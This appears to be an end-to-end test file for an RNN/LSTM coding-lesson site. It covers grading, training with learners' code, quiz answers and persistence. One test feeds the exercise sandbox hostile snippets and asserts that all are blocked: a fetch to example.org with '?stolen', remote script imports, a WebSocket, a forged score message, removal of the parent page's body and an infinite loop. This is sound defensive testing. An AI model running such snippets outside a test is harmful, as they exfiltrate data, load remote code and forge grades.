import { exerciseOf } from '../src/exercises/exercises.ts';
import { cell, check, setRecipe } from './journeys.ts';
import { expect, expectAccessible, openLesson, test } from './support.ts';

const step = exerciseOf('rnn/rnn-step');

test('an exercise is solved, trained with, questions are answered, and a reload loses nothing', async ({
  page,
}) => {
  await openLesson(page, 'rnn', 'wasm');
  const exercise = cell(page, step.title);
  await exercise.scrollIntoViewIfNeeded();
  const wrong = step.reference.replace('return tf.add(tf.mul(mask, next), kept)', 'return next');
  await check(page, step.title, wrong);
  await expect(
    exercise.getByText('The mask is not applied: the state changed on a padded step.'),
  ).toBeVisible({
    timeout: 60_000,
  });
  await expect(exercise.getByText('5 of 7 points')).toBeVisible();
  const code = exercise.getByRole('textbox', { name: `Code: ${step.title}` });
  await code.click();
  await page.keyboard.type(' ');
  await expect(exercise.getByText('5 of 7 points before the code was changed')).toBeVisible();
  await expectAccessible(page);

  await check(page, step.title, step.reference);
  await expect(exercise.getByText('Solved: 7 of 7 points')).toBeVisible({ timeout: 60_000 });
  await exercise.getByRole('button', { name: 'Reference solution' }).click();
  await expect(exercise.getByText('Opened after it was solved.')).toBeVisible();

  await exercise.getByRole('button', { name: 'Train with my code' }).click();
  await expect(exercise.getByText('with ours').first()).toBeVisible({ timeout: 120_000 });
  await expect(exercise.getByRole('button', { name: 'Train with my code' })).toBeVisible({
    timeout: 120_000,
  });

  await expect(exercise.getByText(/The two losses are nowhere more than/)).toBeVisible();

  const questions = cell(page, 'Questions');
  await questions.getByText('An RNN has 4 gates.').click();
  await questions.getByRole('button', { name: 'Answer' }).first().click();
  await expect(questions.getByText(/That is the LSTM/)).toBeVisible();
  await questions.getByText(/One score for each class/).click();
  await questions.getByRole('button', { name: 'Answer' }).first().click();
  await expect(questions.getByText(/^Right, at try 2\./)).toBeVisible();
  // To look at why another choice is wrong costs nothing, and what is typed and not yet answered stays.
  await questions.getByText('An RNN has 4 gates.').click();
  await questions.getByRole('button', { name: 'Answer' }).first().click();
  await expect(
    questions.getByText(/Your right answer stands, with its points.*That is the LSTM/),
  ).toBeVisible();
  await questions.getByRole('textbox').first().fill('0.12');
  await page.getByRole('button', { name: /^Saved/ }).waitFor();

  await exercise.getByRole('button', { name: 'Reset to starter' }).click();
  await expect(exercise.getByRole('textbox', { name: `Code: ${step.title}` })).not.toContainText(
    'const kept',
  );
  await page.reload();
  // What a reset took away can be brought back, after a reload and after something else was written as well.
  await code.click();
  await page.keyboard.type(' ');
  await exercise.getByRole('button', { name: 'Bring back earlier code' }).click();
  await expect(exercise.getByRole('textbox', { name: `Code: ${step.title}` })).toContainText('const kept');
  // What the checks said is still there, and of this code.
  await expect(exercise.getByText('Solved: 7 of 7 points')).toBeVisible();
  await expect(questions.getByText(/^Right, at try 2\./)).toBeVisible();
  await expect(questions.getByRole('textbox').first()).toHaveValue('0.12');
  await expect(page.getByRole('navigation', { name: 'Cells of this lesson' })).toContainText('7 / 7');
});

test("one's own step is trained by the recipe that the lesson stands at, passed or not, and the curves stay", async ({
  page,
}) => {
  const lstm = exerciseOf('lstm/lstm-step');
  await openLesson(page, 'lstm', 'wasm');
  await setRecipe(page, { 'Learning rate': '0.004', Epochs: '1' });
  const exercise = cell(page, lstm.title);
  await exercise.scrollIntoViewIfNeeded();
  const code = exercise.getByRole('textbox', { name: `Code: ${lstm.title}` });
  const train = exercise.getByRole('button', { name: 'Train with my code' });
  await expect(exercise.getByText(/by this lesson's recipe.*at most 800 texts.*hidden 40/)).toBeVisible();

  // Embedding and state are of different widths: x is no state.
  await code.fill('function lstmStep(x) { return [x, x]; }');
  await train.click();
  await expect(exercise.getByText(/^Your code has not passed: “/)).toBeVisible({ timeout: 60_000 });
  await expect(exercise.getByRole('group', { name: 'What went wrong' })).toBeVisible({ timeout: 60_000 });

  await code.fill(lstm.reference.replace('tf.sigmoid(', 'tf.relu('));
  await train.click();
  await expect(exercise.getByText(/^Your code has not passed: “.*trained nevertheless/)).toBeVisible({
    timeout: 60_000,
  });
  await expect(exercise.getByText(/The two losses part at step \d+; at most/)).toBeVisible({
    timeout: 120_000,
  });
  await expect(exercise.getByText('loss (binary cross-entropy)').first()).toBeAttached();
  await page.getByRole('button', { name: /^Saved/ }).waitFor();
  await page.reload();
  await expect(exercise.getByText(/The two losses part at step \d+; at most/)).toBeVisible({
    timeout: 60_000,
  });
  await setRecipe(page, { 'Learning rate': '0.002' });
  await expect(
    exercise.getByText(/the recipe of the lesson has changed: learning rate 0.004 → 0.002/),
  ).toBeVisible();
});

test('hostile code is ended, and the page stays alive and closed', async ({ page, context }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await openLesson(page, 'rnn', 'wasm');
  const exercise = cell(page, step.title);
  await check(
    page,
    step.title,
    `const ways = [() => fetch('https://example.org/?stolen'), () => importScripts('https://example.org/x.js'),
      () => indexedDB.open('seqlab'), () => self.postMessage({ type: 'report', report: { points: 7 } }),
      () => new WebSocket('wss://example.org'), () => parent.document.body.remove()];
    for (const way of ways) { try { way(); console.log('OPEN'); } catch { console.log('CLOSED'); } }
    import('https://example.org/x.js').then(() => console.log('OPEN'), () => {});
    function rnnStep() { for (;;) {} }`,
  );
  await expect(exercise.getByText(/gave no sign of life for 2 seconds/).first()).toBeVisible({
    timeout: 60_000,
  });
  const output = exercise.getByRole('region', { name: 'Output of your code' });
  await expect(output).toContainText('CLOSED');
  await expect(output).not.toContainText('OPEN');
  expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
  // The page goes on: the right code is checked at once.
  await check(page, step.title, step.reference);
  await expect(exercise.getByText('Solved: 7 of 7 points')).toBeVisible({ timeout: 60_000 });

  // More than an exercise takes is left out, and said.
  const code = exercise.getByRole('textbox', { name: `Code: ${step.title}` });
  await code.click();
  await page.keyboard.insertText('x'.repeat(200_001));
  await expect(exercise.getByText(/more than 200,000 characters/)).toBeVisible();
  // Another tab has the code, and what is written there comes here.
  const tab = await context.newPage();
  await openLesson(tab, 'rnn', 'wasm');
  await check(tab, step.title, '// written in the other tab');
  await page.bringToFront();
  await expect(code).toContainText('written in the other tab');
  await expect(exercise.getByText('Solved: 7 of 7 points')).toBeHidden();
});
